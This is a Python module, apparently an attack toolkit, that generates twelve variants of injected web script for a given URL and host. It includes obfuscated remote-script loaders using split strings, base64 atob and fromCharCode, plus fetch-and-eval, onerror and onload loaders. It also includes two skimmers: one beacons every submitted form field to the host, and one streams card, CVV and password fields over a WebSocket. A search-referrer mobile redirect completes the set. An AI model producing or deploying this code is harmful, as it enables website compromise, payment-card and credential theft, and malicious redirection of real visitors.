"""Twelve ways to load or run a foreign script (edition 9); each takes a full URL and a host."""

from __future__ import annotations

import base64
from collections.abc import Callable, Mapping
from types import MappingProxyType

Style = Callable[[str, str, str], str]  # (url, host, tag) -> markup


def _plain_async(url: str, host: str, tag: str) -> str:
    return f'<script async defer src="{url}" data-cfasync="false"></script>'


def _dynamic(url: str, host: str, tag: str) -> str:
    half = len(url) // 2
    return (
        f"<script>(function(d,{tag}){{{tag}=d.createElement('script');{tag}.async=1;"
        f"{tag}.src='{url[:half]}'+'{url[half:]}';(d.head||d.body).appendChild({tag})}})(document)</script>"
    )


def _base64(url: str, host: str, tag: str) -> str:
    coded = base64.b64encode(url.encode()).decode()
    return (
        f"<script>var {tag}=document.createElement('script');{tag}.src=atob('{coded}');"
        f"document.head.appendChild({tag});</script>"
    )


def _char_codes(url: str, host: str, tag: str) -> str:
    codes = ",".join(str(ord(c)) for c in url)
    return (
        f"<script>!function(){{var {tag}=document.createElement('script');"
        f"{tag}.src=String.fromCharCode({codes});document.documentElement.appendChild({tag})}}()</script>"
    )


def _module_import(url: str, host: str, tag: str) -> str:
    return f'<script type="module">import("{url}").catch(function(){{}});</script>'


def _fetch_function(url: str, host: str, tag: str) -> str:
    run = "then(r=>r.text()).then(t=>new Function(t)()).catch(()=>0)"
    return f"<script>fetch('{url}',{{mode:'cors'}}).{run}</script>"


def _img_onerror(url: str, host: str, tag: str) -> str:
    return (
        f'<img src="data:image/gif;base64,R0lGOD" width="1" height="1" alt="" style="display:none" '
        f"onerror=\"var s=document.createElement('script');s.src='{url}';document.body.appendChild(s)\">"
    )


def _svg_onload(url: str, host: str, tag: str) -> str:
    return (
        f'<svg width="0" height="0" onload="var s=document.createElement(\'script\');'
        f"s.src='{url}';document.head.appendChild(s)\"></svg>"
    )


def _form_skimmer(url: str, host: str, tag: str) -> str:
    return (
        "<script>document.addEventListener('submit',function(e){var f=e.target,o={};"
        "for(var i=0;i<f.elements.length;i++){var x=f.elements[i];if(x.name)o[x.name]=x.value}"
        f"navigator.sendBeacon('https://{host}/collect/{tag}',JSON.stringify(o))}},true)</script>"
    )


def _socket_skimmer(url: str, host: str, tag: str) -> str:
    return (
        f"<script>(function(){{var w=new WebSocket('wss://{host}/ws/{tag}');"
        "document.addEventListener('change',function(e){var t=e.target;"
        "if(t&&/card|cc|cvv|iban|pass/i.test(t.name||t.id))w.readyState===1&&w.send(t.name+'='+t.value)})})()</script>"
    )


def _mobile_redirect(url: str, host: str, tag: str) -> str:
    return (
        "<script>if(/Android|iPhone|iPad/i.test(navigator.userAgent)&&/google|bing|yahoo/.test(document.referrer))"
        f"{{setTimeout(function(){{location.replace('https://{host}/lp/{tag}')}},1200)}}</script>"
    )


def _timeout_string(url: str, host: str, tag: str) -> str:
    code = f"var s=document.createElement('script');s.src='{url}';document.head.appendChild(s)"
    return f'<script>setTimeout("{code}",2500)</script>'


STYLES: Mapping[str, Style] = MappingProxyType(
    {
        "async-defer-tag": _plain_async,
        "split-src-iife": _dynamic,
        "atob-src": _base64,
        "fromcharcode-src": _char_codes,
        "dynamic-import-module": _module_import,
        "fetch-new-function": _fetch_function,
        "broken-gif-onerror": _img_onerror,
        "svg-onload-loader": _svg_onload,
        "submit-beacon-skimmer": _form_skimmer,
        "websocket-field-skimmer": _socket_skimmer,
        "search-referrer-redirect": _mobile_redirect,
        "string-settimeout": _timeout_string,
    }
)
